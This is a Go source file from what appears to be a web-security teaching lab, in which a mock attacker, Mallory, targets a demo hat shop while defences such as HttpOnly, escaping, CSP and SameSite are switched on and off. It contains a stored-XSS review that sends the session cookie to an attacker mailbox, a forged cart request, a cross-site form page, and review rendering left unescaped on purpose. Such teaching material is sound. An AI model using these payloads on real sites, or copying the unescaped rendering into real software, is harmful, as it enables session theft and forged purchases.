package lab

import (
	"html/template"
	"net/http"
	"slices"

	"hookandtag.example/shop/internal/mallory"
)

var clientSide = &lesson{
	number: 5, title: "A script in a review",
	weakness: "A review may hold a script, scripts may read the cookie, and any site may send our forms.",
	defences: []mallory.Defence{
		{Key: "httponly", Text: "The cookie is HttpOnly: scripts cannot read it"},
		{Key: "escape", Text: "Reviews are escaped: they are text, whatever they hold"},
		{Key: "csp", Text: "A Content-Security-Policy allows no scripts"},
		{Key: "samesite", Text: "The cookie is SameSite=Lax: other sites' forms do not carry it"},
		{Key: "origin", Text: "Forms from other sites are refused"},
	},
	weaken: func(x *exhibit) {
		x.cookie = x.bareCookie
		if x.on["httponly"] || x.on["samesite"] {
			x.cookie = x.guardedCookie
		}
		if x.on["csp"] {
			x.headers = allowNoScripts
		}
		if !x.on["origin"] {
			x.accept = fromAnywhere
		}
	},
}

// bareCookie leaves HttpOnly and SameSite out.
func (x *exhibit) bareCookie(s *session) *http.Cookie {
	return &http.Cookie{Name: "sid", Value: s.id, Path: x.path}
}

// guardedCookie has the attributes that are switched on.
func (x *exhibit) guardedCookie(s *session) *http.Cookie {
	c := x.bareCookie(s)
	if x.on["httponly"] {
		c.HttpOnly = true
	}
	if x.on["samesite"] {
		c.SameSite = http.SameSiteLaxMode
	}
	return c
}

// fromAnywhere takes a form from every site.
func fromAnywhere(*http.Request) bool { return true }

func allowNoScripts(w http.ResponseWriter, _ *http.Request, _ *session) {
	w.Header().Set("Content-Security-Policy", "default-src 'none'; style-src 'self'; form-action 'self'")
}

// reviewAsMarkup puts a review into the page as it was posted, scripts and all.
func reviewAsMarkup(review string) template.HTML { return template.HTML(review) }

func reviewAsText(review string) template.HTML {
	return template.HTML(template.HTMLEscapeString(review))
}

// review returns a prepared review. Nobody's own words reach the page: other programs on this
// machine share its host name.
func (x *exhibit) review(kind string) (text string, found bool) {
	switch kind {
	case "kind":
		return "Keeps the rain off. <b>Five hooks out of five!</b>", true
	case "steal":
		return `Lovely hat.<script>new Image().src = "` + x.evil + `/mailbox?c=" + ` +
			`encodeURIComponent(document.cookie.match(/sid=\w*/) || "")</script>`, true
	case "ride":
		return `Lovely too.<script>fetch("` + x.path + `cart", {method: "POST", ` +
			`body: new URLSearchParams({sku: "FEDORA"})})</script>`, true
	}
	return "", false
}

// postReview adds one of the prepared reviews, each once.
func postReview(w http.ResponseWriter, r *http.Request, x *exhibit) {
	text, found := x.review(r.PostFormValue("review"))
	if !found {
		x.refuse(w, http.StatusUnprocessableEntity, "Pick one of the prepared reviews.")
		return
	}
	x.mu.Lock()
	defer x.mu.Unlock()
	if !slices.Contains(x.reviews, text) {
		x.reviews = append(x.reviews, text)
	}
	x.note(mallory.EventPosted, "Mallory's review was posted: "+r.PostFormValue("review")+".")
	redirect(w, x.path)
}

// receiveMail keeps what a page sent to Mallory. It stands on Mallory's site.
func receiveMail(w http.ResponseWriter, r *http.Request, x *exhibit) {
	letter := r.URL.Query().Get("c")
	x.mu.Lock()
	defer x.mu.Unlock()
	if len(letter) > 2*maxID {
		letter = letter[:2*maxID]
	}
	x.mailbox = slices.Insert(x.mailbox, 0, letter)
	x.mailbox = x.mailbox[:min(len(x.mailbox), maxMailbox)]
	if letter == "" {
		x.note(mallory.EventRefused, "A script wrote to Mallory, and had no cookie to send.")
	} else {
		x.note(mallory.EventMail, "Mallory got mail: a session cookie.")
	}
	w.WriteHeader(http.StatusNoContent)
}

// showPrize is Mallory's page with a form that adds a hat to the visitor's cart: in the twin, or in
// the shop.
func (l *Lab) showPrize(w http.ResponseWriter, r *http.Request, x *exhibit) {
	form := struct {
		Action, SKU, Where, Shop string
		Number                   int
	}{l.config.URL + x.path + "cart", "FEDORA", "the twin", x.shop, x.lesson.number}
	if r.URL.Query().Get("at") == "shop" {
		form.Action, form.SKU, form.Where = l.config.Shop+"/cart/lines", "HAT-BERET", "the shop"
	}
	l.render(w, "prize", form)
}
